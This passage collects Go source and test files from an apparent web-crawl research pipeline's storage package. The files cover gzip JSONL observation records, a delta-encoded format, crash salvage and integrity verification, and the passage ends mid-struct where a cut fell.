// domains migrated to JS-Cookie during the study (the paper found 39 %
// migrated over seven years; within the four-year window the share is
// lower).
func (d *Discontinued) MigrationStats() (everUsed, migrated int) {
	return len(d.everJQCookie), len(d.migrated)
}
