package store

import (
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"testing"
)

// splitBySegment routes a stream the way SegmentedWriter would.
func splitBySegment(obs []Observation, n int) [][]Observation {
	out := make([][]Observation, n)
	for _, o := range obs {
		s := ShardOf(o.Domain, n)
		out[s] = append(out[s], o)
	}
	return out
}

// readSegment collects one segment's records, copying the reused Libs.
func readSegment(t *testing.T, dir string, seg int) []Observation {
	t.Helper()
	var got []Observation
	if err := ForEachSegment(dir, seg, func(o Observation) error {
		o.Libs = append([]LibRecord(nil), o.Libs...)
		got = append(got, o)
		return nil
	}); err != nil {
		t.Fatalf("segment %d: %v", seg, err)
	}
	return got
}

// checkPrefix asserts got is an exact prefix of want.
func checkPrefix(t *testing.T, seg int, got, want []Observation) {
	t.Helper()
	if len(got) > len(want) {
		t.Fatalf("segment %d: %d records, only %d written", seg, len(got), len(want))
	}
	for i := range got {
		a, b := got[i], want[i]
		if len(a.Libs) == 0 {
			a.Libs = nil
		}
		if !reflect.DeepEqual(a, b) {
			t.Fatalf("segment %d record %d mismatch\n got %+v\nwant %+v", seg, i, a, b)
		}
	}
}

// TestSalvageIntactNoop: a clean archive passes Verify and Salvage must not
// touch it.
func TestSalvageIntactNoop(t *testing.T) {
	obs := genObs(12, 3)
	dir := filepath.Join(t.TempDir(), "store")
	writeSegmented(t, dir, obs, 3)
	res, err := Salvage(dir)
	if err != nil {
		t.Fatal(err)
	}
	if !res.Intact || res.Total != len(obs) || res.TornSegments != 0 {
		t.Fatalf("salvage of intact store: %+v", res)
	}
	man, err := ReadManifest(dir)
	if err != nil {
		t.Fatal(err)
	}
	if man.Salvaged {
		t.Error("intact store must not be marked salvaged")
	}
}

// TestSalvageScanRebuildsTornStore: no manifest, no checkpoint — the legacy
// crash shape. Salvage must keep each segment's longest valid record prefix
// and rebuild a manifest marked salvaged.
func TestSalvageScanRebuildsTornStore(t *testing.T) {
	const segments = 4
	obs := genObs(25, 4)
	perSeg := splitBySegment(obs, segments)
	dir := filepath.Join(t.TempDir(), "store")
	writeSegmented(t, dir, obs, segments)

	// Crash shape: manifest gone, one segment cut mid-stream, one with
	// garbage appended past its final gzip member.
	if err := os.Remove(filepath.Join(dir, ManifestName)); err != nil {
		t.Fatal(err)
	}
	fi, err := os.Stat(SegmentPath(dir, 1))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(SegmentPath(dir, 1), fi.Size()*2/3); err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(SegmentPath(dir, 3), os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.Write([]byte("not gzip at all")); err != nil {
		t.Fatal(err)
	}
	_ = f.Close()

	res, err := Salvage(dir)
	if err != nil {
		t.Fatal(err)
	}
	if res.Intact || res.FromCheckpoint {
		t.Fatalf("scan salvage took the wrong path: %+v", res)
	}
	if res.TornSegments != 2 {
		t.Errorf("TornSegments = %d, want 2", res.TornSegments)
	}
	man, err := ReadManifest(dir)
	if err != nil {
		t.Fatal(err)
	}
	if !man.Salvaged || man.Version != ManifestVersionDelta {
		t.Fatalf("salvaged manifest: %+v", man)
	}
	if _, err := Verify(dir); err != nil {
		t.Fatalf("salvaged store fails verify: %v", err)
	}
	for s := 0; s < segments; s++ {
		got := readSegment(t, dir, s)
		checkPrefix(t, s, got, perSeg[s])
		// Untouched segments keep everything; the garbage-suffixed one only
		// lost the garbage.
		if s != 1 && len(got) != len(perSeg[s]) {
			t.Errorf("segment %d: %d records after salvage, want all %d", s, len(got), len(perSeg[s]))
		}
		if s == 1 && len(got) == len(perSeg[s]) {
			t.Errorf("segment 1 was truncated mid-stream but lost nothing — suspicious")
		}
	}
}

// TestSalvageFromCheckpointDropsUncommittedTail: with a checkpoint, salvage
// must restore exactly the committed weeks — a durable-but-uncommitted tail
// is amputated, not kept.
func TestSalvageFromCheckpointDropsUncommittedTail(t *testing.T) {
	const segments, weeks = 2, 3
	run := RunID{Seed: 21, Domains: 14, Weeks: weeks}
	perWeek := byWeek(genObs(14, weeks), weeks)
	dir := filepath.Join(t.TempDir(), "store")
	w, err := CreateSegmentedWith(dir, segments, SegmentedOptions{Checkpoint: true, Run: run})
	if err != nil {
		t.Fatal(err)
	}
	for wk := 0; wk < 2; wk++ {
		for _, o := range perWeek[wk] {
			if err := w.Write(o); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.CommitWeek(wk); err != nil {
			t.Fatal(err)
		}
	}
	// Week 2 reaches the disk (flushed, fsynced, member closed) but its
	// checkpoint is never written — a crash between segment commit and
	// journal commit.
	for _, o := range perWeek[2] {
		if err := w.Write(o); err != nil {
			t.Fatal(err)
		}
	}
	for i := range w.segs {
		if _, err := w.segs[i].commit(); err != nil {
			t.Fatal(err)
		}
	}
	_ = w.Abort()

	res, err := Salvage(dir)
	if err != nil {
		t.Fatal(err)
	}
	if !res.FromCheckpoint || res.TornSegments == 0 || res.DroppedBytes == 0 {
		t.Fatalf("checkpoint salvage result: %+v", res)
	}
	var committed []Observation
	for wk := 0; wk < 2; wk++ {
		committed = append(committed, perWeek[wk]...)
	}
	perSeg := splitBySegment(committed, segments)
	for s := 0; s < segments; s++ {
		got := readSegment(t, dir, s)
		if len(got) != len(perSeg[s]) {
			t.Fatalf("segment %d: %d records, want exactly the %d committed", s, len(got), len(perSeg[s]))
		}
		checkPrefix(t, s, got, perSeg[s])
	}
	if _, err := Verify(dir); err != nil {
		t.Fatalf("salvaged store fails verify: %v", err)
	}
}

// TestVerifyLyingManifest (satellite S2): ReadManifest only checks shape,
// so a manifest whose declared counts do not match the decodable data reads
// fine — Verify is the integrity mode that catches it.
func TestVerifyLyingManifest(t *testing.T) {
	obs := genObs(10, 2)
	dir := filepath.Join(t.TempDir(), "store")
	writeSegmented(t, dir, obs, 2)
	man, err := ReadManifest(dir)
	if err != nil {
		t.Fatal(err)
	}
	man.Counts[0]++
	man.Total++
	data, err := json.Marshal(man)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, ManifestName), data, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := ReadManifest(dir); err != nil {
		t.Fatalf("the lying manifest is shape-valid, ReadManifest must accept it: %v", err)
	}
	if _, err := Verify(dir); err == nil ||
		!strings.Contains(err.Error(), "seg-0000.jsonl.gz") ||
		!strings.Contains(err.Error(), "manifest declares") {
		t.Fatalf("Verify must name the lying segment: %v", err)
	}
}

// TestParallelReaderTruncatedSegment (satellite S3): one segment cut
// mid-gzip-stream. The parallel reader must fail with a store: error naming
// the torn segment, and the callback must only ever have seen complete,
// checksum-valid records that were actually written.
func TestParallelReaderTruncatedSegment(t *testing.T) {
	const segments = 4
	obs := genObs(30, 3)
	perSeg := splitBySegment(obs, segments)
	dir := filepath.Join(t.TempDir(), "store")
	writeSegmented(t, dir, obs, segments)
	fi, err := os.Stat(SegmentPath(dir, 2))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(SegmentPath(dir, 2), fi.Size()*3/5); err != nil {
		t.Fatal(err)
	}

	var mu sync.Mutex
	got := make([][]Observation, segments)
	err = ForEachSegmentedParallel(dir, func(seg int, o Observation) error {
		o.Libs = append([]LibRecord(nil), o.Libs...)
		mu.Lock()
		got[seg] = append(got[seg], o)
		mu.Unlock()
		return nil
	})
	if err == nil {
		t.Fatal("parallel read of a truncated segment must error")
	}
	if !strings.HasPrefix(err.Error(), "store:") || !strings.Contains(err.Error(), "seg-0002.jsonl.gz") {
		t.Fatalf("error must carry the store prefix and name the torn segment: %v", err)
	}
	for s := 0; s < segments; s++ {
		checkPrefix(t, s, got[s], perSeg[s])
	}
	if len(got[2]) >= len(perSeg[2]) {
		t.Errorf("segment 2 delivered %d records from a truncated file holding %d", len(got[2]), len(perSeg[2]))
	}
}

// writeV1Store builds a pre-framing (manifest version 1) segmented store
// the way the old writer did: plain gzip JSONL segments, no frames, no
// checkpoint.
func writeV1Store(t *testing.T, dir string, obs []Observation, segments int) {
	t.Helper()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	writers := make([]*Writer, segments)
	counts := make([]int, segments)
	for i := range writers {
		w, err := createFile(osFS{}, SegmentPath(dir, i), FormatPlain)
		if err != nil {
			t.Fatal(err)
		}
		writers[i] = w
	}
	for _, o := range obs {
		s := ShardOf(o.Domain, segments)
		if err := writers[s].Write(o); err != nil {
			t.Fatal(err)
		}
		counts[s]++
	}
	for _, w := range writers {
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
	}
	man := Manifest{Version: ManifestVersionPlain, Segments: segments,
		Partition: PartitionFNV1aDomain, Counts: counts, Total: len(obs)}
	data, err := json.Marshal(man)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, ManifestName), data, 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestV1StoreBackCompat: version-1 stores written before framing must keep
// reading byte-identically through every entry point, pass Verify, and be
// salvageable (the salvage rewrite upgrades them to framed v2).
func TestV1StoreBackCompat(t *testing.T) {
	const segments = 3
	obs := genObs(18, 4)
	perSeg := splitBySegment(obs, segments)
	dir := filepath.Join(t.TempDir(), "v1")
	writeV1Store(t, dir, obs, segments)

	man, err := ReadManifest(dir)
	if err != nil {
		t.Fatal(err)
	}
	if man.Version != ManifestVersionPlain {
		t.Fatalf("manifest version = %d, want 1", man.Version)
	}
	var got []Observation
	if err := ForEach(dir, func(o Observation) error {
		got = append(got, o.Clone())
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	checkSameByDomain(t, byDomain(obs), byDomain(got))
	for s := 0; s < segments; s++ {
		checkPrefix(t, s, readSegment(t, dir, s), perSeg[s])
	}
	if _, err := Verify(dir); err != nil {
		t.Fatalf("intact v1 store fails verify: %v", err)
	}

	// Torn v1 store: truncate a segment, drop the manifest — the pre-
	// checkpoint crash shape. Salvage must recover the prefix and rewrite
	// the store as framed v2.
	torn := filepath.Join(t.TempDir(), "v1-torn")
	writeV1Store(t, torn, obs, segments)
	if err := os.Remove(filepath.Join(torn, ManifestName)); err != nil {
		t.Fatal(err)
	}
	fi, err := os.Stat(SegmentPath(torn, 0))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(SegmentPath(torn, 0), fi.Size()/2); err != nil {
		t.Fatal(err)
	}
	res, err := Salvage(torn)
	if err != nil {
		t.Fatal(err)
	}
	if res.Intact || res.FromCheckpoint || res.TornSegments != 1 {
		t.Fatalf("v1 salvage result: %+v", res)
	}
	man2, err := ReadManifest(torn)
	if err != nil {
		t.Fatal(err)
	}
	if !man2.Salvaged || man2.Version != ManifestVersionDelta {
		t.Fatalf("salvaged v1 manifest: %+v", man2)
	}
	if _, err := Verify(torn); err != nil {
		t.Fatalf("salvaged v1 store fails verify: %v", err)
	}
	for s := 0; s < segments; s++ {
		got := readSegment(t, torn, s)
		checkPrefix(t, s, got, perSeg[s])
		if s != 0 && len(got) != len(perSeg[s]) {
			t.Errorf("segment %d: %d records after salvage, want all %d", s, len(got), len(perSeg[s]))
		}
	}
}
