// Raw-line (v4 "bundle") segment streaming.
//
// A v4 segment holds records this package treats as opaque: each record is
// one '!'-marked line whose payload encoding belongs to the wexbundle
// package. The store still owns everything below the line — gzip members,
// commit boundaries, member-level FNV-1a checksums, checkpoint/salvage —
// so a bundle archive inherits the full v3 crash-safety story without the
// store knowing what a bundle record means.

package store

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"os"
)

// BundleMark is the first byte of every v4 record line. Observation
// records can never start with it ('{', '#', '=', '~', '^' are taken), so
// one sniffed byte keeps bundle segments and observation segments from
// ever being confused for each other.
const BundleMark = '!'

// ForEachRawLine streams every record line of a bundle-format segment file
// to fn, stripped of the trailing newline but including the leading '!'
// mark. The line's backing bytes are reused between calls — fn must
// consume them before returning, not retain them. A record missing its
// mark, or a stream cut mid-record (torn gzip member, missing final
// newline), surfaces as a corrupt-stream error; fn's own errors pass
// through unwrapped.
func ForEachRawLine(path string, fn func(line []byte) error) error {
	f, err := os.Open(path)
	if err != nil {
		return fmt.Errorf("store: %w", err)
	}
	defer f.Close()
	gz, err := newGzipReader(f)
	if err != nil {
		return fmt.Errorf("store: %s: %w", path, err)
	}
	defer gzrPool.Put(gz)
	br := bufrPool.Get().(*bufio.Reader)
	br.Reset(gz)
	defer bufrPool.Put(br)
	// long accumulates records larger than the pooled reader's buffer —
	// recorded page bodies routinely exceed 64 KiB.
	var long []byte
	for {
		chunk, err := br.ReadSlice('\n')
		switch {
		case err == nil:
			line := chunk[:len(chunk)-1]
			if len(long) > 0 {
				long = append(long, line...)
				line = long
			}
			if len(line) == 0 || line[0] != BundleMark {
				return fmt.Errorf("store: %s: corrupt stream: record missing %q mark", path, string(BundleMark))
			}
			if err := fn(line); err != nil {
				return err
			}
			long = long[:0]
		case errors.Is(err, bufio.ErrBufferFull):
			long = append(long, chunk...)
		case errors.Is(err, io.EOF):
			if len(chunk) > 0 || len(long) > 0 {
				return fmt.Errorf("store: %s: corrupt stream: torn record: %w", path, io.ErrUnexpectedEOF)
			}
			return nil
		default:
			return fmt.Errorf("store: %s: corrupt stream: %w", path, err)
		}
	}
}
