// Delta encoding: the v3 record format.
//
// The paper's dataset is longitudinal — 201 weekly snapshots of the same
// domains — and week-over-week a page rarely changes, so encoding every
// observation as full JSON re-states the same facts ~200 times. The v3
// format exploits that structure the same way the fingerprint memo does:
// within a segment each domain forms a stream (segment partition keeps all
// of a domain's weeks together, week-ascending), and week N is encoded as
// a diff against the domain's week N-1. Three record kinds, told apart by
// their first byte:
//
//	'=' <json observation> '\n'   full record (first sighting of a domain,
//	                              or after a resume reset the dictionary)
//	'~' <week> ' ' <domain> '\n'  same-as-last-week: identical to the
//	                              previous observation except for Week
//	'^' <json delta> '\n'         field-level delta against the previous
//	                              observation (only changed fields present)
//
// The '~' fast path is the common case and round-trips without invoking
// encoding/json at all on either side. Unlike v2 there are no per-record
// checksum frames — integrity moves to whole-compressed-member FNV-1a
// checksums (see members.go) — so deflate's match window sees pure,
// highly repetitive text and v3 archives come in smaller than v1.
package store

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"io"
)

// v3 record marks. JSON observations start with '{' and v2 frames with
// '#', so the first decompressed byte still identifies the format.
const (
	fullMark  = '='
	sameMark  = '~'
	deltaMark = '^'
)

// obsDelta is the wire form of a '^' record: Domain and Week are always
// present, every other field only when it changed since the previous week.
// Libs and Flash can legitimately change *to* their zero value (a library
// dropped, Flash removed), which omitempty alone cannot express — LibsSet
// and FlashSet carry that "this field changed" bit explicitly.
type obsDelta struct {
	Domain    string         `json:"d"`
	Week      int            `json:"w"`
	Rank      *int           `json:"r,omitempty"`
	Status    *int           `json:"s,omitempty"`
	Bytes     *int           `json:"b,omitempty"`
	Country   *string        `json:"c,omitempty"`
	HasJS     *bool          `json:"j,omitempty"`
	WordPress *string        `json:"wp,omitempty"`
	LibsSet   bool           `json:"ls,omitempty"`
	Libs      []LibRecord    `json:"l,omitempty"`
	FlashSet  bool           `json:"fs,omitempty"`
	Flash     *FlashRecord   `json:"f,omitempty"`
	Resources *ResourceFlags `json:"rf,omitempty"`
}

// Clone returns a deep copy of o: the Libs backing array and the Flash
// record are duplicated, so retaining the clone is safe even when o came
// from a reusing decoder (ForEach hands out observations whose Libs
// backing is recycled between calls).
func (o Observation) Clone() Observation {
	if o.Libs != nil {
		o.Libs = append([]LibRecord(nil), o.Libs...)
	}
	if o.Flash != nil {
		f := *o.Flash
		o.Flash = &f
	}
	return o
}

// canonObs normalizes the properties JSON round-trips erase, so encoder
// and decoder dictionaries agree byte-for-byte: an empty Libs slice and a
// nil one marshal identically (omitempty), so both sides keep nil.
func canonObs(o Observation) Observation {
	if len(o.Libs) == 0 {
		o.Libs = nil
	}
	return o
}

// libsEqual reports element-wise equality, treating nil and empty alike
// (they are indistinguishable after a JSON round trip).
func libsEqual(a, b []LibRecord) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func flashEqual(a, b *FlashRecord) bool {
	if a == nil || b == nil {
		return a == b
	}
	return *a == *b
}

// sameExceptWeek reports whether two observations differ in Week alone —
// the '~' fast-path predicate.
func sameExceptWeek(a, b *Observation) bool {
	return a.Domain == b.Domain &&
		a.Rank == b.Rank &&
		a.Status == b.Status &&
		a.Bytes == b.Bytes &&
		a.Country == b.Country &&
		a.HasJS == b.HasJS &&
		a.WordPress == b.WordPress &&
		a.Resources == b.Resources &&
		flashEqual(a.Flash, b.Flash) &&
		libsEqual(a.Libs, b.Libs)
}

// domainInline reports whether a domain can be embedded raw in a '~'
// record, whose line format is delimited by '\n'. Domains carrying a
// newline (hostile input, not DNS) fall back to JSON-escaped records.
func domainInline(domain string) bool {
	for i := 0; i < len(domain); i++ {
		if domain[i] == '\n' || domain[i] == '\r' {
			return false
		}
	}
	return true
}

// diffObs builds the delta record turning prev into obs. Domain and Week
// are unconditional; everything else is included only when changed.
func diffObs(prev, obs *Observation) obsDelta {
	d := obsDelta{Domain: obs.Domain, Week: obs.Week}
	if obs.Rank != prev.Rank {
		d.Rank = &obs.Rank
	}
	if obs.Status != prev.Status {
		d.Status = &obs.Status
	}
	if obs.Bytes != prev.Bytes {
		d.Bytes = &obs.Bytes
	}
	if obs.Country != prev.Country {
		d.Country = &obs.Country
	}
	if obs.HasJS != prev.HasJS {
		d.HasJS = &obs.HasJS
	}
	if obs.WordPress != prev.WordPress {
		d.WordPress = &obs.WordPress
	}
	if !libsEqual(obs.Libs, prev.Libs) {
		d.LibsSet = true
		d.Libs = obs.Libs
	}
	if !flashEqual(obs.Flash, prev.Flash) {
		d.FlashSet = true
		d.Flash = obs.Flash
	}
	if obs.Resources != prev.Resources {
		r := obs.Resources
		d.Resources = &r
	}
	return d
}

// applyDelta reconstructs the observation a delta record encodes, starting
// from the domain's previous observation. The returned observation owns
// its Libs/Flash when the delta replaced them (json.Unmarshal allocated
// them fresh) and shares them with prev otherwise.
func applyDelta(prev Observation, d *obsDelta) Observation {
	o := prev
	o.Week = d.Week
	if d.Rank != nil {
		o.Rank = *d.Rank
	}
	if d.Status != nil {
		o.Status = *d.Status
	}
	if d.Bytes != nil {
		o.Bytes = *d.Bytes
	}
	if d.Country != nil {
		o.Country = *d.Country
	}
	if d.HasJS != nil {
		o.HasJS = *d.HasJS
	}
	if d.WordPress != nil {
		o.WordPress = *d.WordPress
	}
	if d.LibsSet {
		if len(d.Libs) == 0 {
			o.Libs = nil
		} else {
			o.Libs = d.Libs
		}
	}
	if d.FlashSet {
		o.Flash = d.Flash
	}
	if d.Resources != nil {
		o.Resources = *d.Resources
	}
	return o
}

// parseSameRecord parses the body of a '~' record (mark and trailing '\n'
// already stripped): "<week> <domain>".
func parseSameRecord(body []byte) (week int, domain []byte, ok bool) {
	i := 0
	for ; i < len(body) && body[i] >= '0' && body[i] <= '9'; i++ {
		week = week*10 + int(body[i]-'0')
		if week > 1<<30 {
			return 0, nil, false
		}
	}
	if i == 0 || i >= len(body) || body[i] != ' ' {
		return 0, nil, false
	}
	return week, body[i+1:], true
}

// decodeDelta decodes a v3 delta stream. It materializes the previous
// observation per domain stream and applies '~'/'^' records against it;
// the '~' fast path never touches encoding/json, which is what makes v3
// replay cost drop with segment count instead of being JSON-bound. The
// observations handed to fn share their Libs/Flash backing with the
// decoder's domain dictionary — fn must not retain or mutate them (the
// same no-retain contract every ForEach path now has; Clone to keep one).
func decodeDelta(br *bufio.Reader, path string, fn func(Observation) error) error {
	corrupt := func(format string, args ...any) error {
		return fmt.Errorf("store: %s: corrupt stream: "+format, append([]any{path}, args...)...)
	}
	prev := make(map[string]Observation)
	var long []byte // spill for records longer than the bufio buffer
	for {
		line, err := br.ReadSlice('\n')
		if errors.Is(err, bufio.ErrBufferFull) {
			long = append(long[:0], line...)
			for errors.Is(err, bufio.ErrBufferFull) {
				line, err = br.ReadSlice('\n')
				long = append(long, line...)
			}
			line = long
		}
		if err != nil {
			if errors.Is(err, io.EOF) {
				if len(line) == 0 {
					return nil
				}
				return corrupt("torn record: %w", io.ErrUnexpectedEOF)
			}
			return corrupt("%w", err)
		}
		if len(line) < 2 {
			return corrupt("empty record")
		}
		body := line[1 : len(line)-1]
		switch line[0] {
		case fullMark:
			var obs Observation
			if err := json.Unmarshal(body, &obs); err != nil {
				return corrupt("bad record: %w", err)
			}
			obs = canonObs(obs)
			prev[obs.Domain] = obs
			if err := fn(obs); err != nil {
				return err
			}
		case sameMark:
			week, domain, ok := parseSameRecord(body)
			if !ok {
				return corrupt("bad same-record %q", body)
			}
			p, seen := prev[string(domain)]
			if !seen {
				return corrupt("same-record for unseen domain %q", domain)
			}
			p.Week = week
			if err := fn(p); err != nil {
				return err
			}
		case deltaMark:
			var d obsDelta
			if err := json.Unmarshal(body, &d); err != nil {
				return corrupt("bad delta record: %w", err)
			}
			p, seen := prev[d.Domain]
			if !seen {
				return corrupt("delta record for unseen domain %q", d.Domain)
			}
			obs := applyDelta(p, &d)
			prev[d.Domain] = obs
			if err := fn(obs); err != nil {
				return err
			}
		default:
			return corrupt("bad record mark %q", line[0])
		}
	}
}
