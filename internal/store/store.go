// Package store persists crawl observations.
//
// The paper's dataset is 157.2M landing pages over 201 weeks; keeping
// observations as raw HTML would be enormous, so the pipeline reduces every
// page to an Observation — the facts the analyses consume — and stores them
// as gzip-compressed JSON lines, one observation per line, ordered by week.
// Readers stream; nothing requires the dataset to fit in memory.
package store

import (
	"bufio"
	"compress/gzip"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"sync"
)

// LibRecord is one detected library inclusion on a page.
type LibRecord struct {
	Slug    string `json:"slug"`
	Version string `json:"version,omitempty"`
	Known   bool   `json:"known,omitempty"`
	// External marks remote inclusion; Host is the serving host then.
	External bool   `json:"ext,omitempty"`
	Host     string `json:"host,omitempty"`
	// SRI marks an integrity attribute; Crossorigin its companion value.
	SRI         bool   `json:"sri,omitempty"`
	Crossorigin string `json:"crossorigin,omitempty"`
}

// FlashRecord is the Flash embedding state of a page.
type FlashRecord struct {
	ScriptAccessParam bool `json:"sap,omitempty"`
	Always            bool `json:"always,omitempty"`
	ViaSWFObject      bool `json:"swfobject,omitempty"`
	// Visible is false when every Flash embed is hidden/off-screen.
	Visible bool `json:"visible,omitempty"`
}

// ResourceFlags marks which of the top-8 resource types a page used.
type ResourceFlags struct {
	JavaScript   bool `json:"js,omitempty"`
	CSS          bool `json:"css,omitempty"`
	Favicon      bool `json:"favicon,omitempty"`
	ImportedHTML bool `json:"imported,omitempty"`
	XML          bool `json:"xml,omitempty"`
	SVG          bool `json:"svg,omitempty"`
	Flash        bool `json:"flash,omitempty"`
	AXD          bool `json:"axd,omitempty"`
}

// Observation is everything recorded about one (domain, week) fetch.
type Observation struct {
	Domain string `json:"domain"`
	Rank   int    `json:"rank"`
	Week   int    `json:"week"`
	// Status is the HTTP status; 0 records a connection-level failure.
	Status int `json:"status"`
	// Bytes is the page size — the paper's 400-byte empty-page filter
	// needs it.
	Bytes int `json:"bytes"`
	// Country is the operator country (used by the Flash case study).
	Country string `json:"country,omitempty"`

	HasJS     bool          `json:"hasjs,omitempty"`
	WordPress string        `json:"wordpress,omitempty"`
	Libs      []LibRecord   `json:"libs,omitempty"`
	Flash     *FlashRecord  `json:"flashinfo,omitempty"`
	Resources ResourceFlags `json:"resources,omitempty"`
}

// OK reports whether the fetch produced a usable page: HTTP 200 and above
// the paper's 400-byte empty-page threshold.
func (o Observation) OK() bool { return o.Status == 200 && o.Bytes >= 400 }

// Lib returns the record for a library slug, if present.
func (o Observation) Lib(slug string) (LibRecord, bool) {
	for _, l := range o.Libs {
		if l.Slug == slug {
			return l, true
		}
	}
	return LibRecord{}, false
}

// Sink is the write side shared by the single-file and segmented stores.
type Sink interface {
	Write(Observation) error
	Count() int
	Close() error
}

// Writer streams observations to a gzip JSONL file. It is not safe for
// concurrent use; callers sharing one Writer must serialize Write.
type Writer struct {
	f   *os.File
	gz  *gzip.Writer
	buf *bufio.Writer
	enc *json.Encoder
	n   int
}

// Pools for the pieces every writer and reader re-creates: gzip
// compressor/decompressor state (the dominant allocation — the flate
// tables alone are hundreds of KiB) and the 64 KiB scan/flush buffers.
// All of them support Reset, so recycling is free of correctness risk.
var (
	gzwPool = sync.Pool{New: func() any { return gzip.NewWriter(io.Discard) }}
	gzrPool = sync.Pool{} // holds *gzip.Reader; empty Get means "make one"
	bufwPool = sync.Pool{New: func() any {
		return bufio.NewWriterSize(io.Discard, 1<<16)
	}}
	bufrPool = sync.Pool{New: func() any {
		return bufio.NewReaderSize(nil, 1<<16)
	}}
)

func newGzipReader(r io.Reader) (*gzip.Reader, error) {
	if v := gzrPool.Get(); v != nil {
		gz := v.(*gzip.Reader)
		if err := gz.Reset(r); err != nil {
			gzrPool.Put(gz)
			return nil, err
		}
		return gz, nil
	}
	return gzip.NewReader(r)
}

// Create opens a new observation file, truncating any existing one.
func Create(path string) (*Writer, error) {
	f, err := os.Create(path)
	if err != nil {
		return nil, err
	}
	gz := gzwPool.Get().(*gzip.Writer)
	gz.Reset(f)
	buf := bufwPool.Get().(*bufio.Writer)
	buf.Reset(gz)
	return &Writer{f: f, gz: gz, buf: buf, enc: json.NewEncoder(buf)}, nil
}

// Write appends one observation. Failed writes are not counted: Count
// reflects only observations the encoder accepted.
func (w *Writer) Write(obs Observation) error {
	if err := w.enc.Encode(obs); err != nil {
		return err
	}
	w.n++
	return nil
}

// Count returns the number of observations written so far.
func (w *Writer) Count() int { return w.n }

// Close flushes and closes the file.
func (w *Writer) Close() error {
	var first error
	keep := func(err error) {
		if err != nil && first == nil {
			first = err
		}
	}
	keep(w.buf.Flush())
	keep(w.gz.Close())
	keep(w.f.Close())
	bufwPool.Put(w.buf)
	gzwPool.Put(w.gz)
	w.buf, w.gz = nil, nil
	return first
}

// ForEach streams every observation of a store to fn, in file order. fn
// returning an error aborts the scan with that error. The path may be a
// single gzip JSONL file or a segmented store directory (see
// CreateSegmented); segmented stores are read segment by segment, in
// segment order. Read-side failures (missing file, truncated or corrupt
// gzip, malformed JSON) come back wrapped with a "store:" prefix naming
// the file; fn's own errors pass through unwrapped.
func ForEach(path string, fn func(Observation) error) error {
	if IsSegmented(path) {
		return ForEachSegmented(path, fn)
	}
	return forEachFile(path, false, fn)
}

// forEachFile scans one gzip JSONL file. With reuse set, the Observation
// handed to fn shares its Libs backing array with the previous call — fn
// must not retain it (the no-retain fast path of the parallel readers).
func forEachFile(path string, reuse bool, fn func(Observation) error) error {
	f, err := os.Open(path)
	if err != nil {
		return fmt.Errorf("store: %w", err)
	}
	defer f.Close()
	gz, err := newGzipReader(f)
	if err != nil {
		return fmt.Errorf("store: %s: %w", path, err)
	}
	defer gzrPool.Put(gz)
	return decodeStream(gz, path, reuse, fn)
}

// decodeStream decodes one gzip-decompressed JSONL stream. Decode-side
// errors are wrapped with the store prefix and path; callback errors are
// returned as-is. A stream cut mid-observation (truncated gzip footer,
// severed connection) surfaces as io.ErrUnexpectedEOF inside the wrap, so
// callers can distinguish corruption from a clean end of stream.
func decodeStream(r io.Reader, path string, reuse bool, fn func(Observation) error) error {
	br := bufrPool.Get().(*bufio.Reader)
	br.Reset(r)
	defer bufrPool.Put(br)
	dec := json.NewDecoder(br)
	var obs Observation
	for {
		if reuse {
			// Keep the Libs capacity; json.Decode refills it in place.
			// The reused slots must be zeroed first: decoding merges into
			// existing elements, so a field omitted by omitempty would
			// otherwise keep the previous record's value.
			libs := obs.Libs[:cap(obs.Libs)]
			clear(libs)
			obs = Observation{Libs: libs[:0]}
		} else {
			obs = Observation{}
		}
		if err := dec.Decode(&obs); err != nil {
			if errors.Is(err, io.EOF) {
				return nil
			}
			return fmt.Errorf("store: %s: corrupt stream: %w", path, err)
		}
		if err := fn(obs); err != nil {
			return err
		}
	}
}

// ReadAll loads a whole observation file into memory. Intended for tests
// and small datasets; large runs should use ForEach.
func ReadAll(path string) ([]Observation, error) {
	var out []Observation
	err := ForEach(path, func(o Observation) error {
		out = append(out, o)
		return nil
	})
	return out, err
}
