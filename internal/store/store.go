// Package store persists crawl observations.
//
// The paper's dataset is 157.2M landing pages over 201 weeks; keeping
// observations as raw HTML would be enormous, so the pipeline reduces every
// page to an Observation — the facts the analyses consume — and stores them
// as gzip-compressed JSON lines, one observation per line, ordered by week.
// Readers stream; nothing requires the dataset to fit in memory.
package store

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"strconv"
	"sync"
)

// LibRecord is one detected library inclusion on a page.
type LibRecord struct {
	Slug    string `json:"slug"`
	Version string `json:"version,omitempty"`
	Known   bool   `json:"known,omitempty"`
	// External marks remote inclusion; Host is the serving host then.
	External bool   `json:"ext,omitempty"`
	Host     string `json:"host,omitempty"`
	// SRI marks an integrity attribute; Crossorigin its companion value.
	SRI         bool   `json:"sri,omitempty"`
	Crossorigin string `json:"crossorigin,omitempty"`
	// Sig marks a detection recovered from script content (a bundle's
	// signature scan) rather than from a <script src> URL.
	Sig bool `json:"sig,omitempty"`
}

// FlashRecord is the Flash embedding state of a page.
type FlashRecord struct {
	ScriptAccessParam bool `json:"sap,omitempty"`
	Always            bool `json:"always,omitempty"`
	ViaSWFObject      bool `json:"swfobject,omitempty"`
	// Visible is false when every Flash embed is hidden/off-screen.
	Visible bool `json:"visible,omitempty"`
}

// ResourceFlags marks which of the top-8 resource types a page used.
type ResourceFlags struct {
